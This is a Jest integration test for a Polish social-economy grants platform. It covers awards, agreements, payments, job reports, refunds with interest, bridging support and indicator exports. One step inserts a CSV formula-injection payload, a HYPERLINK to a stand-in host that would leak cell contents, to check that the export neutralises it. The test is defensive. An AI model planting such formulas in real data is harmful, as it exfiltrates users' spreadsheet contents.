import { randomUUID } from 'node:crypto';
import { jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { DEFAULT_CENTRE_ID, ManualClock, formatPln } from '@app/common';
import { expectEventually } from '../support/eventually.js';
import {
  acceptAndScore,
  acceptedPayload,
  addEvaluators,
  addExchangeRate,
  createPublishedCall,
  grantsEvents,
  grantsQuery,
  publishEvent,
  recipient,
  startGrants,
  startTokenIssuer,
  type Account,
  type Platform,
  type TokenIssuer,
} from '../support/grants-fixtures.js';

jest.setTimeout(120_000);

const at = (isoDate: string, time = '09:00:00') => {
  // Warsaw wall time; the offset follows DST (last Sunday of March / October)
  const month = Number(isoDate.slice(5, 7));
  const summer = month > 3 && month < 11 && !(month === 10 && Number(isoDate.slice(8, 10)) > 25);
  return new Date(`${isoDate}T${time}${summer ? '+02:00' : '+01:00'}`);
};

function nextMonthStart(period: string): string {
  const [y, m] = period.split('-').map(Number) as [number, number];
  return m === 12 ? `${y + 1}-01-01` : `${y}-${String(m + 1).padStart(2, '0')}-01`;
}

/**
 * Issue 4 (e)–(g) end to end: from a formally accepted application to a settled grant — award,
 * agreement, tranches within the award, 18 months of job reports with the clock moving, a vacancy
 * refilled in time, a vacancy not refilled (refund with statutory interest), settlement,
 * indicators.
 */
describe('grants: from a formally accepted application to a settled grant', () => {
  let platform: Platform;
  let issuer: TokenIssuer;
  let operator: Account;
  let applicant: Account;
  const clock = new ManualClock(at('2027-01-04'));

  beforeAll(async () => {
    issuer = await startTokenIssuer();
    // Scans in batches of one: a scan that counts a row it could not handle as done would then
    // take it again and again, and a tick would never end (see the refund step below).
    platform = await startGrants(clock, issuer, { SCHEDULER_BATCH_SIZE: '1' });
    operator = await issuer.account('operator');
    applicant = await issuer.account('applicant');
  });

  afterAll(async () => {
    await platform?.close();
    await issuer?.close();
  });

  it('runs the whole lifecycle', async () => {
    const programme = await platform.api.post(
      '/api/programmes',
      {
        name: 'OWES Płock',
        counties: ['1462', '1419', '1427', '1404'],
        yearlyBudgets: [{ year: 2027, amount: 42_388_633 }],
        targets: {
          groupsSupported: 20,
          enterprisesStrengthened: 14,
          enterprisesCreated: 8,
          jobsCreated: 60,
          peopleTrained: 400,
        },
      },
      operator.token,
    );
    const call = await createPublishedCall(platform, operator.token, {
      budget: 40_000_000,
      programmeId: programme.body.id,
    });
    // initiative groups recruited by the applications service: qualified ones are "supported"
    const group = (county: string, counties: string[] = [county]) => ({
      centreId: DEFAULT_CENTRE_ID,
      groupId: randomUUID(),
      name: `Grupa inicjatywna ${county}`,
      plannedLegalForm: 'social-cooperative' as const,
      naturalPersons: 3,
      legalPersons: 0,
      plannedJobs: 3,
      counties,
      submittedAt: '2027-01-10T09:00:00.000Z',
      leader: recipient(applicant),
    });
    const decided = (g: ReturnType<typeof group>, decision: 'qualified' | 'rejected') => ({
      centreId: g.centreId,
      groupId: g.groupId,
      name: g.name,
      decision,
      decidedAt: '2027-01-15T09:00:00.000Z',
      leader: g.leader,
    });
    const twoCounties = group('1419', ['1419', '1462']);
    const oneCounty = group('1462');
    const turned = group('1427');
    const warsaw = group('1465'); // not a county of the programme
    for (const g of [twoCounties, oneCounty, turned, warsaw])
      await publishEvent(platform, 'applications.group.submitted', g);
    for (const g of [twoCounties, oneCounty, warsaw])
      await publishEvent(platform, 'applications.group.qualified', decided(g, 'qualified'));
    await publishEvent(platform, 'applications.group.rejected', decided(turned, 'rejected'));
    clock.set(at('2027-01-21'));
    const pool = await addEvaluators(platform, issuer, operator.token, call.id, 2, {
      chairFirst: true,
    });
    // three full-time jobs under the 2024 unit rates: 3 × (35,212 + 38,178) PLN
    const payload = acceptedPayload({
      callId: call.id,
      applicant,
      amount: 22_017_000,
      county: '1419',
      jobs: [{ county: '1419' }, { county: '1419' }, { county: '1462' }],
    });
    await acceptAndScore(platform, pool, payload, [82, 78]);
    await expectEventually(async () => {
      expect(
        (await platform.api.get(`/api/calls/${call.id}/ranking`, operator.token)).body.rows[0]
          ?.score,
      ).toBe(80);
    });

    clock.set(at('2027-01-25', '10:00:00'));
    expect(
      (await platform.api.post(`/api/calls/${call.id}/ranking/approve`, {}, pool[0]!.token)).status,
    ).toBe(200);
    const [award] = (await platform.api.get('/api/awards', applicant.token)).body.items;
    expect(award).toMatchObject({
      status: 'granted',
      amount: 22_017_000,
      amountFormatted: formatPln(22_017_000),
      paidTotal: 0,
    });

    // payments only after the agreement
    clock.set(at('2027-02-15'));
    expect(
      (
        await platform.api.post(
          `/api/awards/${award.id}/payments`,
          { kind: 'tranche', amount: 100, paidOn: '2027-02-15' },
          operator.token,
        )
      ).body.code,
    ).toBe('AGREEMENT_NOT_SIGNED');
    // the agreement is prepared: the applicant is told when and where to sign it
    const prepare = (body: Record<string, unknown>, token = operator.token) =>
      platform.api.post(`/api/awards/${award.id}/agreement/prepare`, body, token);
    expect((await prepare({ signingOn: '2027-02-16' }, applicant.token)).status).toBe(403);
    const past = await prepare({ signingOn: '2027-02-14' });
    expect(past.status).toBe(400);
    expect(past.body.errors.map((e: any) => e.path)).toEqual(['signingOn']);
    expect((await prepare({ signingOn: '2027-02-30' })).status).toBe(400);
    expect((await prepare({ signingOn: '2027-02-16', place: 'x' })).status).toBe(400);
    const prepared = await prepare({
      signingOn: '2027-02-16',
      place: 'Biuro OWES, ul. Tumska 5, Płock',
      notes: 'Sala 12',
    });
    expect(prepared.status).toBe(200);
    expect(prepared.body).toMatchObject({
      status: 'granted',
      agreementPreparation: {
        signingOn: '2027-02-16',
        place: 'Biuro OWES, ul. Tumska 5, Płock',
      },
    });
    // prepared again (moved to today, no place given): updated and announced again
    const again = await prepare({ signingOn: '2027-02-15' });
    expect(again.status).toBe(200);
    expect(again.body.agreementPreparation).toMatchObject({ signingOn: '2027-02-15', place: null });
    const announced = await grantsEvents(platform, 'grants.agreement.prepared');
    expect(announced.sort((x, y) => y.signingOn.localeCompare(x.signingOn))).toEqual([
      {
        centreId: DEFAULT_CENTRE_ID,
        awardId: award.id,
        reference: award.reference,
        amount: 22_017_000,
        signingOn: '2027-02-16',
        place: 'Biuro OWES, ul. Tumska 5, Płock',
        applicant: expect.objectContaining({ email: applicant.email }),
        preparedAt: clock.now().toISOString(),
      },
      {
        centreId: DEFAULT_CENTRE_ID,
        awardId: award.id,
        reference: award.reference,
        amount: 22_017_000,
        signingOn: '2027-02-15',
        applicant: expect.objectContaining({ email: applicant.email }),
        preparedAt: clock.now().toISOString(),
      },
    ]);
    const badSecurity = await platform.api.post(
      `/api/awards/${award.id}/agreement`,
      {
        signedOn: '2027-02-15',
        security: { kind: 'aval' },
        deMinimisCertificateNumber: 'DM/2027/0001',
      },
      operator.token,
    );
    expect(badSecurity.status).toBe(400);
    expect(badSecurity.body.errors.map((e: any) => e.path)).toEqual(['security.avalist']);
    // not dated before the award (granted on 25 January)
    const beforeAward = await platform.api.post(
      `/api/awards/${award.id}/agreement`,
      {
        signedOn: '2027-01-24',
        security: { kind: 'blank-promissory-note', declarationSigned: true },
        deMinimisCertificateNumber: 'DM/2027/0001',
      },
      operator.token,
    );
    expect(beforeAward.status).toBe(400);
    expect(beforeAward.body.errors.map((e: any) => e.path)).toEqual(['signedOn']);
    expect(
      (
        await platform.api.post(
          `/api/awards/${award.id}/agreement`,
          {
            signedOn: '2027-02-15',
            security: { kind: 'blank-promissory-note', declarationSigned: true },
            deMinimisCertificateNumber: 'DM/2027/0001',
          },
          applicant.token,
        )
      ).status,
    ).toBe(403);
    await addExchangeRate(platform, operator.token, '2027-02-15');
    const signed = await platform.api.post(
      `/api/awards/${award.id}/agreement`,
      {
        signedOn: '2027-02-15',
        security: { kind: 'blank-promissory-note', declarationSigned: true },
        deMinimisCertificateNumber: 'DM/2027/0001',
      },
      operator.token,
    );
    expect(signed.status).toBe(200);
    expect(signed.body).toMatchObject({
      status: 'agreement-signed',
      deMinimisCertificateNumber: 'DM/2027/0001',
      security: { kind: 'blank-promissory-note' },
    });
    expect(
      (
        await platform.api.post(
          `/api/awards/${award.id}/agreement`,
          {
            signedOn: '2027-02-15',
            security: { kind: 'aval', avalist: 'Jan Kowalski' },
            deMinimisCertificateNumber: 'DM/2027/0002',
          },
          operator.token,
        )
      ).status,
    ).toBe(409);
    // once signed, there is nothing to prepare
    const late = await prepare({ signingOn: '2027-02-20' });
    expect(late.status).toBe(409);
    expect(late.body.code).toBe('AGREEMENT_ALREADY_SIGNED');
    expect(await grantsEvents(platform, 'grants.agreement.prepared')).toHaveLength(2);

    clock.set(at('2027-02-20'));
    expect(
      (
        await platform.api.post(
          `/api/awards/${award.id}/payments`,
          { kind: 'tranche', amount: 13_210_200, paidOn: '2027-02-20' },
          operator.token,
        )
      ).status,
    ).toBe(201);
    clock.set(at('2027-03-10'));
    const tooMuch = await platform.api.post(
      `/api/awards/${award.id}/payments`,
      { kind: 'tranche', amount: 8_806_801, paidOn: '2027-03-10' },
      operator.token,
    );
    expect(tooMuch.status).toBe(422);
    expect(tooMuch.body.code).toBe('EXCEEDS_AWARD');
    expect(
      (
        await platform.api.post(
          `/api/awards/${award.id}/payments`,
          {
            kind: 'bridging',
            amount: 100,
            paidOn: '2027-03-10',
            jobId: award.id,
            month: '2027-03',
          },
          operator.token,
        )
      ).body.code,
    ).toBe('NO_BRIDGING_SUPPORT');
    const rest = await platform.api.post(
      `/api/awards/${award.id}/payments`,
      { kind: 'tranche', amount: 8_806_800, paidOn: '2027-03-10' },
      operator.token,
    );
    expect(rest.body.award).toMatchObject({ paidTotal: 22_017_000, remaining: 0 });
    expect((await grantsEvents(platform, 'grants.payment.made')).map((e) => e.remaining)).toEqual([
      8_806_800, 0,
    ]);

    const details = (await platform.api.get(`/api/awards/${award.id}`, applicant.token)).body;
    const [job1, job2, job3] = details.jobs;
    expect(job1).toMatchObject({
      startDate: '2027-03-01',
      fundedEndDate: '2028-02-29',
      endDate: '2028-08-31',
      status: 'active',
    });
    expect(job1.reports).toHaveLength(18);
    expect(job1.reports[0]).toMatchObject({
      period: '2027-03',
      dueDate: '2027-04-07',
      status: 'pending',
    });
    const other = await issuer.account('applicant');
    expect((await platform.api.get(`/api/awards/${award.id}`, other.token)).status).toBe(404);

    const report = (
      jobId: string,
      period: string,
      body: Record<string, unknown> = { jobExists: true, evidenceReference: `ZUS DRA ${period}` },
    ) =>
      platform.api.post(
        `/api/awards/${award.id}/jobs/${jobId}/reports`,
        { period, ...body },
        applicant.token,
      );

    // a month's report cannot be filed before the month ends
    expect((await report(job1.id, '2027-03')).body.code).toBe('PERIOD_NOT_ENDED');
    expect((await report(job1.id, '2026-12')).status).toBe(400);

    const periods = job1.reports.map((r: any) => r.period as string);
    for (const period of periods) {
      clock.set(at(nextMonthStart(period)));
      await platform.api.post('/api/monitoring/run', {}, operator.token);
      if (period !== '2027-04') expect((await report(job1.id, period)).status).toBe(201);
      if (period === '2027-05') {
        // the April report was not filed by 7 May: overdue notice; it can still be filed
        const overdue = await grantsEvents(platform, 'grants.job.report-overdue');
        expect(overdue.filter((e) => e.jobId === job1.id)).toEqual([
          expect.objectContaining({ period: '2027-04', dueDate: '2027-05-07' }),
        ]);
        expect((await report(job1.id, '2027-04')).status).toBe(201);
      }
      // job 2: vacant from 1 August, filled again on 1 September (within 3 months)
      if (period === '2027-08') {
        expect(
          (await report(job2.id, period, { jobExists: false, vacancyDate: '2027-08-01' })).status,
        ).toBe(201);
        const refill = await platform.api.post(
          `/api/awards/${award.id}/jobs/${job2.id}/refill`,
          { refilledOn: '2027-09-01', eligiblePerson: true, evidenceReference: 'ZUS RCA 09/2027' },
          applicant.token,
        );
        expect(refill.body).toMatchObject({ status: 'active', refilledOn: '2027-09-01' });
      } else {
        expect((await report(job2.id, period)).status).toBe(201);
      }
      // job 3: vacant from 10 June and never filled again
      if (period < '2027-06') expect((await report(job3.id, period)).status).toBe(201);
      if (period === '2027-06') {
        expect(
          (await report(job3.id, period, { jobExists: false, vacancyDate: '2027-06-10' })).status,
        ).toBe(201);
        expect((await grantsEvents(platform, 'grants.job.vacancy-reported'))[0]).toMatchObject({
          jobId: job3.id,
          refillDeadline: '2027-09-10',
        });
      }
      if (period === '2027-08') {
        // the day after the refill deadline the refund is claimed, with statutory interest from each payment
        clock.set(at('2027-09-11'));
        // With no interest rate in force the refund cannot be computed: the job waits, vacant,
        // and the tick still ends.
        await grantsQuery(
          platform,
          `CREATE TABLE grants.rates_aside AS SELECT * FROM grants.interest_rates;
           DELETE FROM grants.interest_rates`,
        );
        const unpriced = await platform.api.post('/api/monitoring/run', {}, operator.token);
        expect(unpriced.status).toBe(200);
        expect(unpriced.body.refundsClaimed).toBe(0);
        expect(await grantsEvents(platform, 'grants.refund.claimed')).toEqual([]);
        await grantsQuery(
          platform,
          `INSERT INTO grants.interest_rates SELECT * FROM grants.rates_aside;
           DROP TABLE grants.rates_aside`,
        );
        const run = await platform.api.post('/api/monitoring/run', {}, operator.token);
        expect(run.body.refundsClaimed).toBe(1);
        const [claim] = await grantsEvents(platform, 'grants.refund.claimed');
        // 1/3 of each tranche: 4,403,400 paid 20 Feb (203 days) + 2,935,600 paid 10 Mar (185 days), 7.25 % a year (the rate from 5 March 2026)
        expect(claim).toMatchObject({
          jobId: job3.id,
          principal: 7_339_000,
          interest: 285_427,
          total: 7_624_427,
          demandDate: '2027-09-11',
          dueDate: '2027-10-11',
        });
        expect((await report(job3.id, '2027-09')).body.code).toBe('JOB_TERM_CLOSED');
      }
    }
    // every filed report is announced once (its reminder is moot), the late April one too
    const filed = (await grantsEvents(platform, 'grants.job.report-submitted')).filter(
      (e) => e.jobId === job1.id,
    );
    expect(filed.map((e) => e.period).sort()).toEqual([...periods].sort());
    expect(filed.find((e) => e.period === '2027-03')).toEqual({
      centreId: DEFAULT_CENTRE_ID,
      reportId: job1.reports[0].id,
      awardId: award.id,
      jobId: job1.id,
      reference: award.reference,
      period: '2027-03',
      submittedAt: at('2027-04-01').toISOString(),
      applicant: expect.objectContaining({ email: applicant.email }),
    });
    expect((await grantsEvents(platform, 'grants.job.report-due')).length).toBeGreaterThanOrEqual(
      40,
    );
    expect(await grantsEvents(platform, 'grants.award.settled')).toEqual([]);

    // the day after the terms end: jobs kept, the grant settled
    clock.set(at('2028-09-01', '12:00:00'));
    const final = await platform.api.post('/api/monitoring/run', {}, operator.token);
    expect(final.body).toMatchObject({ termsKept: 2, settled: 1 });
    const settled = await platform.api.get(`/api/awards/${award.id}`, applicant.token);
    expect(settled.body).toMatchObject({ status: 'settled', settledOn: '2028-09-01' });
    expect(settled.body.jobs.map((j: any) => j.status)).toEqual(['kept', 'kept', 'refund-claimed']);
    expect(await grantsEvents(platform, 'grants.award.settled')).toEqual([
      expect.objectContaining({
        awardId: award.id,
        jobsKept: 2,
        paidTotal: 22_017_000,
        refundClaimedTotal: 7_624_427,
        settledOn: '2028-09-01',
      }),
    ]);

    // indicators per programme and county, beside the targets
    const indicators = await platform.api.get('/api/indicators', operator.token);
    expect(indicators.status).toBe(200);
    const [mine] = indicators.body.items;
    const value = (rows: any[], key: string) => rows.find((r) => r.key === key);
    // two qualified groups in the programme's counties (a rejected one and one elsewhere do not count)
    expect(value(mine.indicators, 'groupsSupported')).toMatchObject({ actual: 2, target: 20 });
    expect(
      value(mine.counties.find((c: any) => c.county === '1427').indicators, 'groupsSupported')
        .actual,
    ).toBe(0);
    expect(mine.indicators.map((r: any) => r.key)).not.toContain('peopleTrained');
    const elsewhere = indicators.body.items.find((p: any) => p.programmeId === null);
    expect(value(elsewhere.indicators, 'groupsSupported').actual).toBe(1);
    expect(value(mine.indicators, 'enterprisesCreated')).toMatchObject({ actual: 1, target: 8 });
    expect(value(mine.indicators, 'jobsCreated')).toMatchObject({ actual: 3, target: 60 });
    expect(value(mine.indicators, 'jobsKept')).toMatchObject({ actual: 2 });
    expect(value(mine.indicators, 'moneyAwarded')).toMatchObject({ actual: 22_017_000 });
    expect(value(mine.indicators, 'moneyPaid')).toMatchObject({ actual: 22_017_000 });
    expect(value(mine.indicators, 'moneyRefundClaimed')).toMatchObject({ actual: 7_624_427 });
    const sierpecki = mine.counties.find((c: any) => c.county === '1419');
    expect(value(sierpecki.indicators, 'jobsCreated').actual).toBe(2);
    // a group counts in its first member's county
    expect(value(sierpecki.indicators, 'groupsSupported').actual).toBe(1);
    expect(
      value(mine.counties.find((c: any) => c.county === '1462').indicators, 'jobsKept').actual,
    ).toBe(0);
    // a name a spreadsheet would run as a formula (typed by staff here: the indicators carry no
    // applicant's text) comes out of the CSV as text
    const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';
    const injecting = await platform.api.post(
      '/api/programmes',
      {
        name: formula,
        counties: ['1412'],
        yearlyBudgets: [],
        targets: {
          groupsSupported: 1,
          enterprisesStrengthened: 1,
          enterprisesCreated: 1,
          jobsCreated: 1,
        },
      },
      operator.token,
    );
    expect(injecting.status).toBe(201);
    const csv = await fetch(`${platform.api.url}/api/indicators?format=csv`, {
      headers: { authorization: `Bearer ${operator.token}` },
    });
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe(
      'Program,Kod powiatu (TERYT),Powiat,Wskaźnik,Nazwa wskaźnika,Wartość,Wartość docelowa,Ośrodek',
    );
    const rows = parse(text, { columns: true });
    expect(
      rows.find((r: any) => r['Wskaźnik'] === 'moneyPaid' && r['Kod powiatu (TERYT)'] === ''),
    ).toMatchObject({
      Wartość: '220170.00',
      Program: 'OWES Płock',
    });
    expect(rows.some((r: any) => r.Program === `'${formula}`)).toBe(true);
    expect(rows.some((r: any) => r.Program === formula)).toBe(false);
    expect((await platform.api.get('/api/indicators?format=xml', operator.token)).status).toBe(400);
    expect((await platform.api.get('/api/indicators', applicant.token)).status).toBe(403);
  });
  it('pays bridging support month by month within the monthly cap and the award (grant-plus-bridging model)', async () => {
    clock.set(at('2027-01-04'));
    const call = await createPublishedCall(platform, operator.token, {
      fundingModel: {
        kind: 'grant-bridging',
        grantCapPerJob: 2_102_000,
        bridging: {
          monthlyCap: 200_000,
          months: 6,
          extensionMonthlyCap: 150_000,
          extensionMonths: 6,
        },
      },
    });
    clock.set(at('2027-01-21'));
    const pool = await addEvaluators(platform, issuer, operator.token, call.id, 2, {
      chairFirst: true,
    });
    const bridgingApplicant = await issuer.account('applicant');
    const payload = acceptedPayload({
      callId: call.id,
      applicant: bridgingApplicant,
      amount: 3_302_000,
    });
    await acceptAndScore(platform, pool, payload, [70, 70]);
    clock.set(at('2027-01-25', '10:00:00'));
    await expectEventually(async () => {
      expect(
        (await platform.api.post(`/api/calls/${call.id}/ranking/approve`, {}, operator.token))
          .status,
      ).toBe(200);
    });
    const [award] = (await platform.api.get('/api/awards', bridgingApplicant.token)).body.items;
    clock.set(at('2027-02-15'));
    await addExchangeRate(platform, operator.token, '2027-02-15');
    await platform.api.post(
      `/api/awards/${award.id}/agreement`,
      {
        signedOn: '2027-02-15',
        security: { kind: 'guarantors', guarantors: ['Jan Nowak', 'Maria Wiśniewska'] },
        deMinimisCertificateNumber: 'DM/2027/0099',
      },
      operator.token,
    );
    const [job] = (await platform.api.get(`/api/awards/${award.id}`, operator.token)).body.jobs;
    clock.set(at('2027-04-02'));
    const pay = (body: Record<string, unknown>) =>
      platform.api.post(
        `/api/awards/${award.id}/payments`,
        { paidOn: '2027-04-02', ...body },
        operator.token,
      );
    expect((await pay({ kind: 'tranche', amount: 2_102_000 })).status).toBe(201);
    expect(
      (await pay({ kind: 'bridging', amount: 200_000, jobId: job.id, month: '2027-03' })).status,
    ).toBe(201);
    const overCap = await pay({ kind: 'bridging', amount: 1, jobId: job.id, month: '2027-03' });
    expect(overCap.status).toBe(422);
    expect(overCap.body.message).toBe('Przekroczony miesięczny limit wsparcia pomostowego');
    expect(
      (await pay({ kind: 'bridging', amount: 100_000, jobId: job.id, month: '2027-02' })).status,
    ).toBe(422);
    // the seventh month would be the extension, which was not granted
    expect(
      (await pay({ kind: 'bridging', amount: 100_000, jobId: job.id, month: '2027-09' })).status,
    ).toBe(422);
    expect((await pay({ kind: 'bridging', amount: 100_000, jobId: job.id })).status).toBe(400);
    const after = (await platform.api.get(`/api/awards/${award.id}`, operator.token)).body;
    expect(after).toMatchObject({
      paidTotal: 2_302_000,
      remaining: 1_000_000,
      security: { kind: 'guarantors' },
    });
    expect(after.payments.map((p: any) => [p.kind, p.month]).sort()).toEqual([
      ['bridging', '2027-03'],
      ['tranche', null],
    ]);

    // the extension of bridging support is a separate request, decided by the centre
    const extension = (body: Record<string, unknown>, token = bridgingApplicant.token) =>
      platform.api.post(`/api/awards/${award.id}/bridging-extension`, body, token);
    const justification = 'Spółdzielnia potrzebuje dalszego wsparcia do czasu pozyskania klientów.';
    const tooLong = await extension({ months: 7, monthlyAmount: 150_000, justification });
    expect(tooLong.status).toBe(400);
    const tooMuch = await extension({ months: 3, monthlyAmount: 150_001, justification });
    expect(tooMuch.status).toBe(400);
    expect(tooMuch.body.errors.map((e: any) => e.path)).toEqual(['monthlyAmount']);
    const stranger = await issuer.account('applicant');
    expect(
      (await extension({ months: 3, monthlyAmount: 150_000, justification }, stranger.token))
        .status,
    ).toBe(404);
    const requested = await extension({ months: 3, monthlyAmount: 150_000, justification });
    expect(requested.status).toBe(201);
    expect(requested.body).toMatchObject({ status: 'pending', amount: 450_000, jobIds: [job.id] });
    expect((await extension({ months: 1, monthlyAmount: 100_000, justification })).status).toBe(
      409,
    );
    // not granted yet: the seventh month is still closed
    expect(
      (await pay({ kind: 'bridging', amount: 100_000, jobId: job.id, month: '2027-09' })).status,
    ).toBe(422);
    const decide = (body: Record<string, unknown>, token = operator.token) =>
      platform.api.post(
        `/api/awards/${award.id}/bridging-extension/${requested.body.id}/decision`,
        body,
        token,
      );
    expect((await decide({ decision: 'approved' }, bridgingApplicant.token)).status).toBe(403);
    expect((await decide({ decision: 'rejected' })).status).toBe(400); // a rejection needs a reason
    const approved = await decide({ decision: 'approved' });
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({
      status: 'approved',
      awardIncrease: 450_000,
      award: { amount: 3_752_000, bridgingExtensionGranted: true },
    });
    expect((await decide({ decision: 'rejected', reason: 'Jednak nie' })).status).toBe(409);
    expect(
      (await pay({ kind: 'bridging', amount: 150_000, jobId: job.id, month: '2027-09' })).status,
    ).toBe(201);
    // within the approved monthly amount and months only
    expect(
      (await pay({ kind: 'bridging', amount: 1, jobId: job.id, month: '2027-09' })).status,
    ).toBe(422);
    expect(
      (await pay({ kind: 'bridging', amount: 100_000, jobId: job.id, month: '2027-12' })).status,
    ).toBe(422);
    expect(await grantsEvents(platform, 'grants.bridging-extension.requested')).toEqual([
      expect.objectContaining({ awardId: award.id, months: 3, amount: 450_000, jobs: 1 }),
    ]);
    expect(await grantsEvents(platform, 'grants.bridging-extension.decided')).toEqual([
      expect.objectContaining({ decision: 'approved', awardAmount: 3_752_000 }),
    ]);
    const listed = await platform.api.get(
      `/api/awards/${award.id}/bridging-extension`,
      bridgingApplicant.token,
    );
    expect(listed.body.items.map((r: any) => r.status)).toEqual(['approved']);
  });
});
